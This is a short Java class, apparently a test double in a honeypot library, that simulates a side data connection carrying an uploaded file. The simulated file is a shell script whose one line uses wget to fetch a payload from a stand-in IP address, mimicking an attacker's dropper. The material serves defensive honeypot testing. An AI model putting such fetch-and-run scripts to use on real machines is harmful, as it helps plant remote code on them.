// SPDX-License-Identifier: Apache-2.0
package io.honeymesh.traps;

import io.honeymesh.api.Endpoint;
import io.honeymesh.api.IpAddress;
import io.honeymesh.api.spi.PassiveChannel;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;

/** A second connection beside a conversation, over which a client sends a small file, or which it never opens. */
final class MemoryChannel implements PassiveChannel {

    private static final byte[] FILE = "#!/bin/sh\nwget http://192.0.2.9/x\n".getBytes(StandardCharsets.US_ASCII);
    private static final int PORT = 40_000;

    private final IpAddress address;
    private final Wire wire;
    private final boolean comes;
    private InputStream input = InputStream.nullInputStream();
    private OutputStream output = OutputStream.nullOutputStream();

    MemoryChannel(IpAddress address, Wire wire, boolean comes) {
        this.address = address;
        this.wire = wire;
        this.comes = comes;
    }

    @Override
    public Endpoint endpoint() {
        return new Endpoint(address, PORT);
    }

    @Override
    public void accept() throws IOException {
        if (!comes) {
            throw new SocketTimeoutException("no data connection came");
        }
        input = wire.sideInput(new ByteArrayInputStream(FILE));
        output = wire.sideOutput(OutputStream.nullOutputStream());
    }

    @Override
    public InputStream input() {
        return input;
    }

    @Override
    public OutputStream output() {
        return output;
    }

    @Override
    public void close() {
        // There is nothing to give back.
    }
}
